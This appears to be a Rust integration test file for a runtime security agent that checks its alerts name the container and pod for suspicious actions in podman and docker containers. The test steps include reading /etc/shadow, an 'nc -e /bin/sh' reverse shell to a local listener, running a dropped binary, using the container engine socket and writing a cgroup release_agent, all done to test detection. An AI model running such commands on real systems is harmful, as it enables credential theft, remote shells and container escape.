//! Containers: real podman and docker containers do real things; every alert must name the
//! container (id from the kernel's cgroup, name and image from the runtime's own API) and
//! the pod, the host's must say `host`, and Falco's upstream container rules must fire.
//! The runtimes are started by the tests (podman's API service, a private dockerd) and the
//! image is built locally from busybox (no registry). Root only; never skipped.

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use common::containers::{podman_run_ok, unix_connect_helper, Dockerd, PodmanService, IMAGE};
use common::*;
use serde_json::Value;

/// The alert's container object.
fn container(a: &Value) -> &Value {
    &a["container"]
}

/// The alert is of the container named `name`: id (12 of the 64 hex digits), name, image.
fn assert_of_container(a: &Value, name: &str, runtime: &str) {
    let c = container(a);
    let full = str_of(&c["full_id"]);
    assert_eq!(full.len(), 64, "full id in {a}");
    assert_eq!(c["id"], &full[..12], "short id in {a}");
    assert_eq!(c["name"], name, "container name in {a}");
    assert_eq!(c["image"], IMAGE, "image in {a}");
    assert_eq!(c["image_repository"], "localhost/vigil-test", "repository in {a}");
    assert_eq!(c["image_tag"], "1", "tag in {a}");
    assert_eq!(c["type"], runtime, "runtime in {a}");
}

/// A loopback listener that accepts one connection, sends `send` and reads until EOF.
fn shell_listener(send: &'static str) -> (u16, std::thread::JoinHandle<String>) {
    let l = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = l.local_addr().expect("addr").port();
    let t = std::thread::spawn(move || {
        let (mut s, _) = l.accept().expect("accept");
        s.set_read_timeout(Some(Duration::from_secs(20))).ok();
        s.write_all(send.as_bytes()).ok();
        let mut out = String::new();
        let _ = s.read_to_string(&mut out);
        out
    });
    (port, t)
}

#[test]
fn podman_containers_alert_with_their_id_name_and_image_and_the_host_says_host() {
    let runner = Runner::start("containers");
    let svc = PodmanService::start();
    let agent = Agent::start(&["--container-socket", &svc.agent_arg()]);

    // /etc/shadow read inside a container (the host's, mounted read-only)
    let shadow = unique("shadow");
    podman_run_ok(
        &runner,
        &[
            "--name",
            &shadow,
            "-v",
            "/etc/shadow:/etc/shadow:ro",
            IMAGE,
            "/bin/sh",
            "-c",
            "cat /etc/shadow > /dev/null",
        ],
    );
    let a = wait_alert(&agent, "Password hash database read", |a| {
        container(a)["name"] == shadow.as_str()
    });
    assert_of_container(&a, &shadow, "podman");

    // a reverse shell from a container to a listener on the host
    let revsh = unique("revsh");
    let (port, listener) = shell_listener("echo vigil-revsh-ok; exit\n");
    let script = format!("nc 127.0.0.1 {port} -e /bin/sh");
    podman_run_ok(
        &runner,
        &["--name", &revsh, "--network", "host", IMAGE, "/bin/sh", "-c", &script],
    );
    assert!(
        listener.join().expect("listener").contains("vigil-revsh-ok"),
        "the shell answered"
    );
    let a = wait_alert(&agent, "Shell with a network socket on its stdio", |a| {
        container(a)["name"] == revsh.as_str()
    });
    assert_of_container(&a, &revsh, "podman");

    // a binary dropped in the container's /tmp and run
    let drop = unique("drop");
    podman_run_ok(
        &runner,
        &[
            "--name",
            &drop,
            IMAGE,
            "/bin/sh",
            "-c",
            "cp /bin/busybox /tmp/id && /tmp/id",
        ],
    );
    let a = wait_alert(
        &agent,
        "Dropped binary executed from a temporary or hidden location",
        |a| container(a)["name"] == drop.as_str(),
    );
    assert_of_container(&a, &drop, "podman");

    // the same read on the host
    let pid = runner.ok(&["/bin/sh", "-c", "cat /etc/shadow > /dev/null"]).pid;
    let a = wait_alert(&agent, "Password hash database read", |a| in_tree(a, pid));
    assert_eq!(container(&a)["id"], "host", "{a}");
    assert!(container(&a).get("name").is_none(), "{a}");

    // runc re-executing its sealed copy at every container start is not an attack
    let (lines, summary) = agent.stop();
    assert_no_alert(&lines, "Binary executed from a file descriptor", |a| {
        a["proc"]["name"] == "runc"
    });
    let c = &summary["userspace"]["containers"];
    assert!(c["found"].as_u64().unwrap_or(0) >= 3, "every container looked up: {c}");
    assert_eq!(c["failed"], serde_json::json!({}), "{c}");
}

#[test]
fn a_docker_container_in_a_pod_alerts_with_the_pods_name_namespace_and_labels() {
    let docker = Dockerd::start();
    let uid = "4bd8c0a2-4d31-4c5c-9f1e-7a0d3f6a1b2c";
    let pod = unique("web");
    // the kubelet's layout (dockershim): a sandbox container holding the pod's labels, and
    // the workload's containers labelled with the pod's name, namespace, uid and sandbox
    let sandbox = docker.cmd(&[
        "run",
        "-d",
        "--network",
        "none",
        "--label",
        &format!("io.kubernetes.pod.name={pod}"),
        "--label",
        "io.kubernetes.pod.namespace=shop",
        "--label",
        &format!("io.kubernetes.pod.uid={uid}"),
        "--label",
        "io.kubernetes.docker.type=podsandbox",
        "--label",
        "app=web",
        "--label",
        "tier=front",
        IMAGE,
        "/bin/sleep",
        "120",
    ]);
    assert!(
        sandbox.status.success(),
        "sandbox: {}",
        String::from_utf8_lossy(&sandbox.stderr)
    );
    let sandbox_id = String::from_utf8_lossy(&sandbox.stdout).trim().to_string();

    let rules = TempDir::new("k8s-rule");
    let rule_file = rules.path().join("k8s.yaml");
    std::fs::write(
        &rule_file,
        "- rule: Shadow read in a pod\n  desc: test\n  condition: evt.type in (open, openat) and fd.name = /etc/shadow and k8s.pod.name exists\n  \
         output: \"pod=%k8s.pod.name ns=%k8s.ns.name uid=%k8s.pod.uid app=%k8s.pod.label[app] labels=(%k8s.pod.labels) container=%container.name type=%container.type image=%container.image.repository:%container.image.tag\"\n  \
         priority: WARNING\n",
    )
    .expect("rule file");
    let agent = Agent::start(&[
        "--container-socket",
        &docker.agent_arg(),
        "-r",
        &rule_file.display().to_string(),
    ]);

    let name = format!("k8s_web_{pod}_shop");
    docker.run_ok(&[
        "--name",
        &name,
        "--label",
        &format!("io.kubernetes.pod.name={pod}"),
        "--label",
        "io.kubernetes.pod.namespace=shop",
        "--label",
        &format!("io.kubernetes.pod.uid={uid}"),
        "--label",
        "io.kubernetes.container.name=web",
        "--label",
        &format!("io.kubernetes.sandbox.id={sandbox_id}"),
        "-v",
        "/etc/shadow:/etc/shadow:ro",
        IMAGE,
        "/bin/sh",
        "-c",
        "cat /etc/shadow > /dev/null",
    ]);
    let a = wait_alert(&agent, "Password hash database read", |a| {
        container(a)["name"] == name.as_str()
    });
    assert_of_container(&a, &name, "docker");
    let p = &container(&a)["pod"];
    assert_eq!(
        (p["name"].as_str(), p["namespace"].as_str(), p["uid"].as_str()),
        (Some(pod.as_str()), Some("shop"), Some(uid)),
        "{a}"
    );
    assert_eq!(
        p["labels"],
        serde_json::json!({"app": "web", "tier": "front"}),
        "the sandbox's labels: {a}"
    );

    let a = wait_alert(&agent, "Shadow read in a pod", |a| output(a).contains(&name));
    let want = format!(
        "pod={pod} ns=shop uid={uid} app=web labels=(app:web, tier:front) container={name} type=docker image=localhost/vigil-test:1"
    );
    assert_eq!(output(&a), want);
    drop(agent);
    docker.cmd(&["rm", "-f", &sandbox_id]);
}

#[test]
fn falcos_upstream_container_rules_fire_on_real_containers() {
    let falco = format!(
        "{}/../../../shared/falco-rules/falco_rules.yaml",
        env!("CARGO_MANIFEST_DIR")
    );
    assert!(
        Path::new(&falco).exists(),
        "Falco's rules are missing: {falco} (../shared/falco-rules)"
    );
    let runner = Runner::start("containers");
    let svc = PodmanService::start();
    let agent = Agent::start(&[
        "--container-socket",
        &svc.agent_arg(),
        "--no-builtin-rules",
        "-r",
        &falco,
    ]);

    let tty = unique("tty");
    podman_run_ok(&runner, &["--name", &tty, "-t", IMAGE, "/bin/sh", "-c", "true"]);
    let drop = unique("drop");
    podman_run_ok(
        &runner,
        &[
            "--name",
            &drop,
            IMAGE,
            "/bin/sh",
            "-c",
            "cp /bin/busybox /tmp/id && /tmp/id",
        ],
    );
    let redirect = unique("redirect");
    let (port, listener) = shell_listener("exit\n");
    podman_run_ok(
        &runner,
        &[
            "--name",
            &redirect,
            "--network",
            "host",
            IMAGE,
            "/bin/sh",
            "-c",
            &format!("nc 127.0.0.1 {port} -e /bin/sh"),
        ],
    );
    listener.join().expect("listener");

    for (rule, name) in [
        ("Terminal shell in container", &tty),
        ("Drop and execute new binary in container", &drop),
        ("Redirect STDOUT/STDIN to Network Connection in Container", &redirect),
    ] {
        let a = wait_alert(&agent, rule, |a| container(a)["name"] == name.as_str());
        assert_of_container(&a, name, "podman");
    }
    // and none of them for the host
    let (lines, _) = agent.stop();
    for rule in [
        "Terminal shell in container",
        "Drop and execute new binary in container",
    ] {
        assert_no_alert(&lines, rule, |a| container(a)["id"] == "host");
    }
}

#[test]
fn a_container_gone_in_milliseconds_is_named_and_a_dead_runtime_socket_loses_nothing() {
    let runner = Runner::start("containers");
    let mut svc = PodmanService::start();
    let agent = Agent::start(&["--container-socket", &svc.agent_arg()]);

    // lives for one cat: its cgroup is gone long before anyone could read /sys/fs/cgroup
    let short = unique("short");
    podman_run_ok(
        &runner,
        &[
            "--name",
            &short,
            "-v",
            "/etc/shadow:/etc/shadow:ro",
            IMAGE,
            "/bin/cat",
            "/etc/shadow",
        ],
    );
    let a = wait_alert(&agent, "Password hash database read", |a| {
        container(a)["name"] == short.as_str()
    });
    assert_of_container(&a, &short, "podman");

    // the runtime's API goes away: a process-tree storm in a new container (four shells
    // of 500 execs each), then its alert: events still come, with the id and no name,
    // none stays held for the metadata, the tree shrinks back, the failure is counted
    svc.kill();
    let before = agent.wait_for_stats(Duration::from_secs(10), |s| s["userspace"]["tree_size"].is_u64());
    let tree_before = before["userspace"]["tree_size"].as_u64().expect("tree size");
    let execs_before = hook_counts(&before, "exec")["seen"].as_u64().expect("exec seen");
    let orphan = unique("orphan");
    let storm = "for j in 1 2 3 4; do (i=0; while [ $i -lt 500 ]; do /bin/true; i=$((i+1)); done) & done; wait; \
                 /bin/cat /etc/shadow";
    podman_run_ok(
        &runner,
        &[
            "--name",
            &orphan,
            "-v",
            "/etc/shadow:/etc/shadow:ro",
            IMAGE,
            "/bin/sh",
            "-c",
            storm,
        ],
    );
    let a = wait_alert(&agent, "Password hash database read", |a| {
        container(a)["id"] != "host" && container(a).get("name").is_none()
    });
    let settled = agent.wait_for_stats(Duration::from_secs(30), |s| {
        s["userspace"]["events_held"] == 0
            && s["userspace"]["containers"]["lookups_pending"] == 0
            && s["userspace"]["tree_size"].as_u64().unwrap_or(u64::MAX) <= tree_before + 100
    });
    assert_eq!(settled["userspace"]["events_held"], 0, "{settled}");
    let execs = hook_counts(&settled, "exec")["seen"].as_u64().expect("exec seen") - execs_before;
    assert!(
        execs >= 2_000,
        "the storm's 2,000 execs went through the exec hook: {execs}"
    );
    assert!(
        settled["userspace"]["tree_size"].as_u64().unwrap_or(u64::MAX) <= tree_before + 100,
        "the storm's processes leave the tree: {} before, {settled}",
        tree_before
    );
    assert_eq!(
        container(&a)["type"],
        "podman",
        "the runtime from the cgroup layout: {a}"
    );
    let stats = agent.wait_for_stats(Duration::from_secs(10), |s| {
        s["userspace"]["containers"]["failed"]
            .as_object()
            .is_some_and(|m| !m.is_empty())
    });
    let c = &stats["userspace"]["containers"];
    let failed: u64 = c["failed"]
        .as_object()
        .map_or(0, |m| m.values().filter_map(Value::as_u64).sum());
    assert!(failed >= 1, "the refused lookup is counted: {c}");
    assert!(
        str_of(&c["last_error"]).contains(&svc.socket.display().to_string()),
        "{c}"
    );
    let (_, summary) = agent.stop();
    assert_eq!(summary["lost_total"], 0, "{summary}");
    assert_kernel_accounting(&summary);
}

#[test]
fn container_escapes_and_package_installs_in_containers_are_reported_and_host_routine_is_not() {
    let runner = Runner::start("containers");
    let svc = PodmanService::start();
    let tools = TempDir::new("escape-tools");
    let helper = unix_connect_helper(tools.path());
    let agent = Agent::start(&["--container-socket", &svc.agent_arg()]);

    // a package manager in a running container; the same name on the host is routine
    let pkg = unique("pkg");
    podman_run_ok(
        &runner,
        &["--name", &pkg, IMAGE, "/bin/apt-get", "install", "-y", "nmap"],
    );
    let (a, _) = expect_alert(
        &agent,
        "Package manager run in a container",
        "WARNING",
        "T1105",
        &["apt-get", &pkg],
    );
    assert_of_container(&a, &pkg, "podman");
    let host_apt = tools.path().join("apt-get");
    std::fs::write(&host_apt, "#!/bin/sh\nexit 0\n").expect("host apt-get");
    Command::new("chmod").arg("755").arg(&host_apt).status().expect("chmod");
    let st = Command::new(&host_apt).arg("update").status().expect("host apt-get");
    assert!(st.success());

    // the runtime's socket mounted into a container and used from it
    let sock = unique("sock");
    let mount_sock = format!("{}:/run/podman/podman.sock", svc.socket.display());
    let mount_helper = format!("{}:/uconnect:ro", helper.display());
    podman_run_ok(
        &runner,
        &[
            "--name",
            &sock,
            "-v",
            &mount_sock,
            "-v",
            &mount_helper,
            IMAGE,
            "/uconnect",
            "/run/podman/podman.sock",
        ],
    );
    let (a, _) = expect_alert(
        &agent,
        "Container engine socket used from a container",
        "CRITICAL",
        "T1611",
        &["/run/podman/podman.sock", &sock],
    );
    assert_of_container(&a, &sock, "podman");

    // a cgroup release_agent written (a named v1 hierarchy of our own, in a private mount
    // namespace, so nothing real is changed)
    let cg = tools.path().join("cg");
    std::fs::create_dir_all(&cg).expect("mkdir");
    let script = format!(
        "mount -t cgroup -o none,name=vigil-test-{} cgroup {cg} && : > {cg}/release_agent; umount {cg}",
        std::process::id(),
        cg = cg.display()
    );
    let out = Command::new(need("unshare"))
        .args(["-m", "sh", "-c", &script])
        .output()
        .expect("unshare");
    assert!(
        out.status.success(),
        "mounting a v1 cgroup hierarchy: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (a, lines) = expect_alert(
        &agent,
        "Cgroup release_agent written",
        "CRITICAL",
        "T1611",
        &["release_agent", "container=host"],
    );
    assert_eq!(container(&a)["id"], "host");

    assert_no_alert(&lines, "Package manager run in a container", |a| {
        container(a)["id"] == "host"
    });
    assert_no_alert(
        &lines,
        "Container engine socket accessed by an unexpected process",
        |a| container(a)["id"] != "host",
    );
}
